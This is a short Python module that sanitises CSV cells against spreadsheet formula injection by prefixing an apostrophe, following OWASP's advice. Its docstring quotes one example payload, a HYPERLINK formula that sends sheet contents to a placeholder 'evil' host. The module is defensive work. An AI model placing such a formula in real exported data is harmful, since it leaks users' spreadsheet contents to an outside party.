"""Spreadsheet-safe CSV cells: text from articles must never run as a formula when a CSV is opened.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, or their
full-width forms, which some spreadsheet locales read the same way), after any leading spaces,
is a formula to Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://evil/?"&A1)`` sends
the sheet away. Such a cell gets a leading apostrophe (OWASP's advice), which spreadsheets show
as text. Numbers that Parallax writes itself are not text cells and are left alone.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def safe_cell(value: Any) -> Any:
    """Return ``value`` fit for a CSV cell: text that a spreadsheet would run is prefixed with
    ``'``."""
    if isinstance(value, str) and value.lstrip(" \u00a0\u3000")[:1] in FORMULA_STARTS:
        return "'" + value
    return value
